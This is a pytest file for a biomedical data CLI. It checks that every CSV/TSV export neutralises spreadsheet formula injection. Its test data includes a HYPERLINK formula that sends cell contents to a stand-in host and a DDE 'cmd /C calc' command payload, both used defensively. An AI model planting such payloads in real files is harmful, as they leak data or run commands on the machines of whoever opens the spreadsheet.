"""Exports open safely in a spreadsheet: a cell that Excel or LibreOffice would run as a formula
(OWASP "CSV injection": a leading =, +, -, @, tab or carriage return) comes out as text, from a
hostile value in a loaded file, through every CSV/TSV writer the CLI has."""

from __future__ import annotations

import csv
import io

import pytest
from click.testing import CliRunner

from cli import cli
from graph_loader import nyemetoder
from queries.output import spreadsheet_safe
from tests.conftest import FIXTURES

HOSTILE = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
HOSTILE_GENE = "=1+2"


@pytest.mark.parametrize(
    ("value", "safe"),
    [(HOSTILE, "'" + HOSTILE), ("+1-2", "'+1-2"), ("-2+3+cmd|' /C calc'!A0",
     "'-2+3+cmd|' /C calc'!A0"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
     ("-1.5", "-1.5"), ("+47", "+47"), ("-", "-"), ("osimertinib", "osimertinib"), ("", "")],
)  # fmt: skip
def test_spreadsheet_safe(value, safe):
    assert spreadsheet_safe(value) == safe


@pytest.fixture
def store(tmp_path, monkeypatch):
    for var in ("NEO4J_URI", "NEO4J_USERNAME", "NEO4J_PASSWORD", "NEO4J_DATABASE"):
        monkeypatch.delenv(var, raising=False)  # the embedded store, whatever CI exports
    path = str(tmp_path / "store")
    header = ",".join(nyemetoder.COLUMNS)
    substance = HOSTILE.replace('"', '""')
    row = (f'2021_147,"{substance}",Tabrecta,"ikke-småcellet lungekreft med METex14-skipping",'
           "Legemidler,Kreftsykdommer,0,Er ikke innført,")  # fmt: skip
    workbook = tmp_path / "hostile.csv"
    workbook.write_text(f"{header}\n{row}\n", encoding="utf-8")
    runner = CliRunner()
    oncotree = str(FIXTURES / "oncotree_2025_10_03_small.json")
    for args in (["init", "--empty"], ["load", "oncotree", oncotree],
                 ["load", "nyemetoder", str(workbook)]):  # fmt: skip
        result = runner.invoke(cli, ["--store", path, *args], catch_exceptions=False)
        assert result.exit_code == 0, result.output
    return path


def _cells(text: str, delimiter: str = ",") -> list[str]:
    return [c for row in csv.reader(io.StringIO(text), delimiter=delimiter) for c in row]


def test_hostile_cells_come_out_escaped_from_every_export(store, tmp_path):
    runner = CliRunner()

    def out(*args: str) -> str:
        result = runner.invoke(cli, ["--store", store, *args], catch_exceptions=False)
        assert result.exit_code == 0, result.output
        return result.output

    cypher = out("cypher", "MATCH (h:HtaDecision) RETURN h.substance AS s", "--format", "csv")
    query_file = tmp_path / "q.cypher"
    query_file.write_text("MATCH (d:Drug) RETURN d.name AS drug", encoding="utf-8")
    query = out("query", "--file", str(query_file), "--format", "csv")
    out("gaps", "coverage", "--format", "csv", "--output", str(tmp_path / "coverage.csv"))
    coverage = (tmp_path / "coverage.csv").read_text("utf-8")
    for text in (cypher, query):  # the substance as written; the drug under its INN (lower case)
        cells = _cells(text)
        assert any(c.lower().startswith("'=hyperlink") for c in cells), text
        assert not any(c.startswith("=") for c in cells), text
    assert not any(c.startswith("=") for c in _cells(coverage))
    # the annotate TSV: a hostile gene name in a MAF
    maf = tmp_path / "hostile.maf"
    header = "Hugo_Symbol\tHGVSp_Short\tVariant_Classification\tTumor_Sample_Barcode\n"
    maf.write_text(f"{header}{HOSTILE_GENE}\tp.V600E\tMissense_Mutation\t@S1\n", encoding="utf-8")
    out("annotate", str(maf), "--tumour", "LUAD", "--output", str(tmp_path / "a.tsv"))
    cells = _cells((tmp_path / "a.tsv").read_text("utf-8"), "\t")
    assert "'@S1" in cells and f"'{HOSTILE_GENE}" in cells
    assert not any(c[:1] in ("=", "@", "+") for c in cells)
    # KGX TSV
    out("export", "--format", "kgx", "--output", str(tmp_path / "kgx"), "--allow-restricted")
    for name in ("nodes.tsv", "edges.tsv"):
        cells = _cells((tmp_path / "kgx" / name).read_text("utf-8"), "\t")
        assert not any(c.startswith("=") for c in cells)
    nodes = _cells((tmp_path / "kgx" / "nodes.tsv").read_text("utf-8"), "\t")
    assert any(c.lower().startswith("'=hyperlink") for c in nodes)
